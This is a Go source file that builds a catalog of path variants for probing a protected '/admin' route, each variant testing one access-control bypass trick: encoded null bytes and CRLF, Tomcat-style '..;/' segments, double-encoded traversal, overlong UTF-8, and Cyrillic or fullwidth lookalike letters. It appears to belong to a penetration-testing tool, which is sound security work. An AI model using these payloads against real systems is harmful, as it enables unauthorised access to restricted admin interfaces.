// Package catalog holds the two fixed probe dimensions: the payload
// catalog (candidate request paths, each encoding one bypass hypothesis)
// and the header-mutation catalog (proxy-trust header override sets).
// Both are built once from the protected path at process start and never
// mutated afterwards.
package catalog

import (
	"fmt"
	"strings"
	"unicode"
)

// ProtectedPath is the default gated path segment the catalogs target.
const ProtectedPath = "/admin"

// Payload is one candidate request path, treated as opaque bytes. Entries
// may contain pre-percent-encoded octets, raw control characters, or
// multi-byte Unicode sequences; none of that may be re-encoded or
// normalized on the way to the wire. Conversion to string happens only
// when composing the request body and when writing the results log.
type Payload []byte

// confusables maps ASCII letters to Cyrillic lookalikes. Substituting
// one is a classic normalization-bypass hypothesis.
var confusables = map[rune]rune{
	'a': 'а',
	'c': 'с',
	'e': 'е',
	'i': 'і',
	'o': 'о',
	'p': 'р',
	's': 'ѕ',
	'x': 'х',
	'y': 'у',
}

// Payloads returns the built-in payload catalog for the given protected
// path, one bypass hypothesis per entry. The transform list is fixed, so
// for a given path the catalog is an ordered, fixed-size sequence: probe
// ids follow its order. Transforms that do not apply to the path (no
// confusable letter, segment too short) are skipped; duplicates collapse
// keeping the first position.
func Payloads(path string) []Payload {
	if !strings.HasPrefix(path, "/") {
		path = "/" + path
	}
	i := strings.LastIndex(path, "/")
	dir, seg := path[:i], path[i+1:]

	raw := []string{
		path,                               // baseline, expected to be blocked
		path + "/",                         // trailing slash
		dir + "/" + upperFirst(seg),        // case variation
		dir + "/" + strings.ToUpper(seg),   // full upper
		path + "%20",                       // trailing encoded space
		path + "%09",                       // trailing encoded tab
		dir + "/%20" + seg,                 // leading encoded space
		path + "\t",                        // raw tab
		path + "%00",                       // null byte
		path + "%0a",                       // encoded LF
		path + "%0d%0a",                    // encoded CRLF
		path + ".",                         // trailing dot
		path + "..;/",                      // Tomcat-style ..; segment
		path + ";/",                        // path parameter delimiter
		path + ";x=1",                      // matrix parameter
		path + "%23",                       // encoded fragment marker
		path + "%3f",                       // encoded question mark
		"/." + path,                        // dot segment
		"/%2e" + path,                      // encoded dot segment
		"/" + path + "//",                  // doubled slashes
		path + "//",                        // trailing doubled slash
		"/x/.." + path,                     // plain traversal
		"/x/..%2f" + path[1:],              // encoded traversal slash
		"/%2e%2e" + path,                   // encoded parent segment
		"/%252e%252e" + path,               // double-encoded parent segment
		dir + "/" + encodeFirst(seg),       // percent-encoded first letter
		dir + "/" + encodeDoubleFirst(seg), // double-encoded first letter
		dir + "/" + encodeLast(seg),        // percent-encoded last letter
		path + "%2f",                       // trailing encoded slash
		path + "%c0%af",                    // overlong UTF-8 slash
		"/%c0%ae%c0%ae" + path,             // overlong UTF-8 dot-dot
	}
	// Unicode transforms only apply when the segment has something to
	// substitute.
	for _, s := range []string{confusableFirst(seg), zwspInside(seg), fullwidthFirst(seg)} {
		if s != "" {
			raw = append(raw, dir+"/"+s)
		}
	}

	seen := make(map[string]struct{}, len(raw))
	out := make([]Payload, 0, len(raw))
	for _, s := range raw {
		if s == "" || s == "/" {
			continue
		}
		if _, ok := seen[s]; ok {
			continue
		}
		seen[s] = struct{}{}
		out = append(out, Payload(s))
	}
	return out
}

func upperFirst(s string) string {
	if s == "" {
		return s
	}
	r := []rune(s)
	r[0] = unicode.ToUpper(r[0])
	return string(r)
}

func encodeFirst(s string) string {
	if s == "" {
		return s
	}
	return fmt.Sprintf("%%%02x%s", s[0], s[1:])
}

func encodeDoubleFirst(s string) string {
	if s == "" {
		return s
	}
	return fmt.Sprintf("%%25%02x%s", s[0], s[1:])
}

func encodeLast(s string) string {
	if s == "" {
		return s
	}
	return fmt.Sprintf("%s%%%02x", s[:len(s)-1], s[len(s)-1])
}

// confusableFirst substitutes the first letter that has a Cyrillic
// lookalike. Empty result means no letter qualifies.
func confusableFirst(s string) string {
	r := []rune(s)
	for i, c := range r {
		if sub, ok := confusables[c]; ok {
			r[i] = sub
			return string(r)
		}
	}
	return ""
}

// zwspInside inserts a zero-width space after the second rune.
func zwspInside(s string) string {
	r := []rune(s)
	if len(r) < 3 {
		return ""
	}
	return string(r[:2]) + "\u200b" + string(r[2:])
}

// fullwidthFirst replaces a leading ASCII alphanumeric with its
// fullwidth form (U+FF01 block).
func fullwidthFirst(s string) string {
	r := []rune(s)
	if len(r) == 0 {
		return ""
	}
	c := r[0]
	if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') {
		r[0] = c + 0xFEE0
		return string(r)
	}
	return ""
}
